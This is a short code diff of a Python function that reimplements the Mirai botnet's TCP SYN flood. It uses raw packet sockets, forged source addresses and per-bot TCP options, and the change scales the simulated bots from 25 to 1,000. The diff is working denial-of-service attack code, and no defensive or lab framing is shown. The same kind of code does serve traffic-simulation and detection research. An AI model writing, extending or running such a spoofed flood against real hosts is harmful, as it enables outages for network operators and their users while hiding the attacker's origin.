@@ -30,13 +30,13 @@ def checksum(data):
 
 def mirai():
     """Mirai's TCP SYN attack as its public source has it: window, MSS and time stamp are drawn once for each bot, the
-    rest for each SYN. 25 bots with forged addresses."""
+    rest for each SYN. 1,000 bots with forged addresses."""
     link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     link.bind(("eth0", 0))
     macs = bytes.fromhex(ROUTER.replace(":", "")) + bytes.fromhex("020000000001") + b"\x08\x00"
     target = socket.inet_aton(TARGET)
     bots = []
-    for _ in range(25):
+    for _ in range(1000):
         options = struct.pack("!BBH", 2, 4, 1400 + random.randrange(16)) + b"\x04\x02"
         options += struct.pack("!BBII", 8, 10, random.getrandbits(32), 0) + b"\x01\x03\x03\x06"
         bots.append((random.getrandbits(16), options))
